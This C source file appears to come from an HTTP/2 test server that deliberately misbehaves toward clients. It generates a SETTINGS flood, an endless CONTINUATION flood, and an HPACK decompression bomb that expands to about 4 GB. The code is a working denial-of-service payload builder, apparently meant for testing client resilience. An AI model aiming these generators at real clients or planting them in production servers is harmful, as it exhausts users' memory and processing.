/* SPDX-License-Identifier: Apache-2.0 */
#include "serve/h2_moods.h"

enum {
    FRAME_HEADERS = 1,
    FRAME_SETTINGS = 4,
    FRAME_CONTINUATION = 9,
    FLAG_END_STREAM = 1,
    FLAG_END_HEADERS = 4,
    FRAME_BYTES = 16384, /* the most every client takes (RFC 9113, 4.2) */
    BOMB_VALUE = 4000,   /* fits into the 4096 bytes of HPACK's table, with its name and 32 */
    /* HPACK, RFC 7541: */
    INDEXED_STATUS_200 = 0x88,
    INDEXED_NEWEST = 0xbe,   /* entry 62, the first of the dynamic table */
    LITERAL_INDEXED = 0x40,  /* kept in the table */
    LITERAL_FORGOTTEN = 0x00 /* not kept: costs the client what it allocates for it */
};

bool h2_mood_floods(enum h2_mood mood)
{
    return mood == H2_SETTINGS_FLOOD || mood == H2_CONTINUATION_FLOOD || mood == H2_HPACK_BOMB;
}

static uint32_t frames_in_all(const struct h2_flood *f)
{
    return f->mood == H2_HPACK_BOMB ? H2_BOMB_FRAMES : H2_FLOOD_FRAMES;
}

bool h2_flood_is_over(const struct h2_flood *f)
{
    return f->frames >= frames_in_all(f);
}

static void put_frame(struct buf *out, unsigned type, unsigned flags, uint32_t stream,
                      struct str payload)
{
    const unsigned char head[9] = {
        (unsigned char)(payload.n >> 16),
        (unsigned char)(payload.n >> 8),
        (unsigned char)payload.n,
        (unsigned char)type,
        (unsigned char)flags,
        (unsigned char)(stream >> 24),
        (unsigned char)(stream >> 16),
        (unsigned char)(stream >> 8),
        (unsigned char)stream,
    };
    buf_add(out, str_make((const char *)head, sizeof head));
    buf_add(out, payload);
}

/* SETTINGS_MAX_CONCURRENT_STREAMS, a bit different each time; every one wants an answer. */
static void put_settings(const struct h2_flood *f, struct buf *out)
{
    const char payload[6] = {0, 3, 0, 0, 0, (char)(100 + f->frames % 2)};
    put_frame(out, FRAME_SETTINGS, 0, 0, str_make(payload, sizeof payload));
}

/* A head that begins and is never told to be whole. Each frame carries one small header that is
 * read and thrown away, or kept, by a client that has not yet noticed. */
static void put_continuation(const struct h2_flood *f, struct buf *out)
{
    static const char header[] = {LITERAL_FORGOTTEN, 6, 'x', '-', 'm', 'o', 'r', 'e', 2, 'o', 'n'};
    static const char status[] = {(char)INDEXED_STATUS_200};
    if (f->frames == 0)
        put_frame(out, FRAME_HEADERS, 0, f->stream, str_make(status, sizeof status));
    else
        put_frame(out, FRAME_CONTINUATION, 0, f->stream, str_make(header, sizeof header));
}

/* One header of 4 KB into the client's table, then a byte for each time it is meant again: 64 times
 * 16 KB stand for some 4 GB. */
static void put_bomb(const struct h2_flood *f, struct buf *out)
{
    char room[FRAME_BYTES];
    struct buf payload = buf_on(room, sizeof room);
    bool is_first = f->frames == 0, is_last = f->frames + 1 == H2_BOMB_FRAMES;
    if (is_first) {
        buf_byte(&payload, (char)INDEXED_STATUS_200);
        buf_byte(&payload, LITERAL_INDEXED);
        buf_byte(&payload, 6);
        buf_add(&payload, STR("x-bomb"));
        /* 4000 in a prefix of seven bits (RFC 7541, 5.1): 127, then 3873 in groups of seven. */
        buf_byte(&payload, 0x7f);
        buf_byte(&payload, (char)(0x80 | ((BOMB_VALUE - 127) & 0x7f)));
        buf_byte(&payload, (char)((BOMB_VALUE - 127) >> 7));
        buf_fill(&payload, 'b', BOMB_VALUE);
    }
    buf_fill(&payload, (char)INDEXED_NEWEST, sizeof room - payload.n);
    put_frame(out, is_first ? FRAME_HEADERS : FRAME_CONTINUATION,
              (is_first ? FLAG_END_STREAM : 0U) | (is_last ? FLAG_END_HEADERS : 0U), f->stream,
              buf_str(&payload));
}

static void put_next(const struct h2_flood *f, struct buf *out)
{
    if (f->mood == H2_SETTINGS_FLOOD)
        put_settings(f, out);
    else if (f->mood == H2_CONTINUATION_FLOOD)
        put_continuation(f, out);
    else
        put_bomb(f, out);
}

void h2_flood_give(struct h2_flood *f, size_t most, struct buf *out)
{
    size_t start = out->n;
    while (!h2_flood_is_over(f) && out->n - start < most && !out->rc) {
        put_next(f, out);
        f->frames++;
    }
}
